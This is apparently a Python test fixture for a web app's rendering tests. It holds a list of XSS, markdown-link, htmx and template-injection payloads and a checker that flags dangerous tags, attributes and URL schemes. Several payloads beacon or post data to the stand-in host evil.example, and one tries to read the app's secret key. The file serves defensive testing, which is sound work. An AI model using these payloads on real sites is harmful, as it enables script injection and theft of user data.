"""Untrusted text that tries to run code, load remote resources or drive htmx, and a checker.

Shared by the rendering unit tests and the workspace browser tests. Every payload that could run
calls `alert(...)`, which the browser fixtures treat as a failure (a `dialog` event), and every
payload that could exfiltrate points at EXFIL_HOST, so a browser test can also assert that no
request ever went there.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from html.parser import HTMLParser

EXFIL_HOST = "evil.example"


@dataclass(frozen=True)
class Payload:
    name: str
    text: str


XSS_PAYLOADS: list[Payload] = [
    Payload("script_tag", "<script>alert(1)</script>"),
    Payload("script_src", f'<script src="https://{EXFIL_HOST}/x.js"></script>'),
    Payload("img_onerror", "<img src=x onerror=alert(1)>"),
    Payload("svg_onload", "<svg onload=alert(1)>"),
    Payload("svg_script", "<svg><script>alert(1)</script></svg>"),
    Payload("body_onload", "<body onload=alert(1)>"),
    Payload("details_ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    Payload("input_autofocus", "<input autofocus onfocus=alert(1)>"),
    Payload("video_source_onerror", "<video><source onerror=alert(1)></video>"),
    Payload("unknown_tag_onclick", "<x onclick=alert(1)>click</x>"),
    Payload("broken_nested_script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    Payload("null_byte_in_tag", "<scr\x00ipt>alert(1)</script>"),
    Payload("attribute_breakout", '"><script>alert(1)</script>'),
    Payload("quote_breakout_single", "'><img src=x onerror=alert(1)>"),
    Payload("textarea_breakout", "</textarea><script>alert(1)</script>"),
    Payload("comment_breakout", '<!--<img src="--><img src=x onerror=alert(1)//">'),
    Payload("noscript_mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    Payload(
        "math_style_mxss",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
    ),
    Payload("html_javascript_link", '<a href="javascript:alert(1)">x</a>'),
    Payload("html_entity_javascript_link", '<a href="&#106;avascript:alert(1)">x</a>'),
    Payload(
        "html_hex_entities_link",
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    ),
    Payload("html_tab_in_scheme", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    Payload("html_colon_entity", '<a href="javascript&colon;alert(1)">x</a>'),
    Payload(
        "html_data_url_link",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    ),
    Payload("html_vbscript_link", '<a href="vbscript:msgbox(1)">x</a>'),
    Payload("md_javascript_link", "[x](javascript:alert(1))"),
    Payload("md_javascript_link_mixed_case", "[x](JaVaScRiPt:alert(1))"),
    Payload("md_javascript_link_angle", "[x](<javascript:alert(1)>)"),
    Payload("md_javascript_entity_link", "[x](&#106;avascript:alert(1))"),
    Payload("md_javascript_tab_link", "[x](jav&#x09;ascript:alert(1))"),
    Payload("md_javascript_reference_link", "[x][1]\n\n[1]: javascript:alert(1)"),
    Payload("md_javascript_autolink", "<javascript:alert(1)>"),
    Payload("md_data_link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    Payload("md_vbscript_link", "[x](vbscript:msgbox(1))"),
    Payload("md_link_title_breakout", '[x](https://ok.example "a\\" onmouseover=alert(1) x=\\"")'),
    Payload("md_image_exfiltration", f"![x](https://{EXFIL_HOST}/leak?q=secret)"),
    Payload("md_image_reference", f"![x][img]\n\n[img]: https://{EXFIL_HOST}/pixel.png"),
    Payload("md_image_javascript", "![x](javascript:alert(1))"),
    Payload("md_image_data_svg", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    Payload(
        "md_image_in_link",
        f"[![x](https://{EXFIL_HOST}/a.png)](https://{EXFIL_HOST}/click)",
    ),
    Payload("md_code_info_breakout", '```"><img src=x onerror=alert(1)>\ncode\n```'),
    Payload("md_inline_code_script", "`<script>alert(1)</script>`"),
    Payload("html_img_exfiltration", f'<img src="https://{EXFIL_HOST}/leak?q=secret">'),
    Payload("htmx_get", f'<div hx-get="https://{EXFIL_HOST}/x" hx-trigger="load">x</div>'),
    Payload(
        "htmx_post_own_api", '<button hx-post="/api/v1/queues/1/fill" hx-trigger="load">x</button>'
    ),
    Payload("htmx_on", '<div hx-on:htmx:load="alert(1)">x</div>'),
    Payload("htmx_on_short", '<button hx-on::before-request="alert(1)">x</button>'),
    Payload("htmx_data_prefix", '<div data-hx-get="/admin/" data-hx-trigger="load">x</div>'),
    Payload("htmx_vals_js", '<div hx-get="/" hx-vals="js:{a: alert(1)}">x</div>'),
    Payload("iframe_src", f'<iframe src="https://{EXFIL_HOST}/"></iframe>'),
    Payload("iframe_srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    Payload("object_data", '<object data="javascript:alert(1)"></object>'),
    Payload("embed_src", f'<embed src="https://{EXFIL_HOST}/x.swf">'),
    Payload("style_import", f"<style>@import 'https://{EXFIL_HOST}/x.css';</style>"),
    Payload(
        "style_attribute_url",
        f'<p style="background:url(https://{EXFIL_HOST}/leak)">x</p>',
    ),
    Payload("link_stylesheet", f'<link rel="stylesheet" href="https://{EXFIL_HOST}/x.css">'),
    Payload(
        "form_action",
        f'<form action="https://{EXFIL_HOST}/steal"><input name="q"><button>Go</button></form>',
    ),
    Payload("button_formaction", '<button formaction="javascript:alert(1)">x</button>'),
    Payload(
        "meta_refresh",
        f'<meta http-equiv="refresh" content="0;url=https://{EXFIL_HOST}/">',
    ),
    Payload("base_href", f'<base href="https://{EXFIL_HOST}/">'),
    Payload("id_clobbering", '<a id="main" name="csrfmiddlewaretoken">x</a>'),
    Payload("template_variable", "{{ 7*7 }}"),
    Payload("template_tag_debug", "{% debug %}"),
    Payload("template_settings", "{{ settings.SECRET_KEY }}{% load static %}"),
    Payload("js_template_literal", "${alert(1)}"),
]


SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
# Attributes that load, run or redirect on their own, plus those htmx or DOM clobbering would use.
_FORBIDDEN_ATTRIBUTES = frozenset(
    {
        *("style", "id", "name", "src", "srcset", "srcdoc", "action", "formaction", "background"),
        *("poster", "xlink:href", "data", "codebase", "dynsrc", "lowsrc", "ping", "http-equiv"),
    }
)
_FORBIDDEN_TAGS = frozenset(
    {
        *("script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form"),
        *("input", "button", "textarea", "select", "meta", "link", "base", "img", "image", "svg"),
        *("math", "video", "audio", "source", "track", "picture", "template", "noscript", "body"),
        *("html", "head", "title", "portal", "details", "dialog", "marquee"),
    }
)
_URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "data", "cite", "background"})
# What a browser ignores inside a URL before reading its scheme.
_URL_IGNORED = re.compile(r"[\t\n\r]")
_URL_LEADING = re.compile(r"^[\x00-\x20]+")
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")


@dataclass(frozen=True)
class Element:
    tag: str
    attributes: tuple[tuple[str, str], ...]


class _Collector(HTMLParser):
    def __init__(self) -> None:
        # convert_charrefs decodes entities in attribute values, as a browser does.
        super().__init__(convert_charrefs=True)
        self.elements: list[Element] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(Element(tag, tuple((name, value or "") for name, value in attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)


def elements(html: str) -> list[Element]:
    """Every start tag in `html` with its attributes, entity-decoded."""
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.elements


def url_scheme(url: str) -> str | None:
    """The scheme a browser would see in `url` (None for a relative URL)."""
    cleaned = _URL_LEADING.sub("", _URL_IGNORED.sub("", url)).lower()
    match = _SCHEME.match(cleaned)
    return match.group(1) if match else None


def dangers(html: str) -> list[str]:
    """What in `html` could run code, load something or drive htmx; empty when it is inert."""
    found: list[str] = []
    for element in elements(html):
        if element.tag in _FORBIDDEN_TAGS:
            found.append(f"<{element.tag}> element")
        for name, value in element.attributes:
            if name.startswith(("on", "hx-", "data-")) or name in _FORBIDDEN_ATTRIBUTES:
                found.append(f"{name}= on <{element.tag}>")
            if name in _URL_ATTRIBUTES:
                scheme = url_scheme(value)
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    found.append(f"{scheme}: URL in {name}= on <{element.tag}>")
            if url_scheme(value) in {"javascript", "vbscript", "data"}:
                found.append(f"script-like URL in {name}= on <{element.tag}>")
    return found
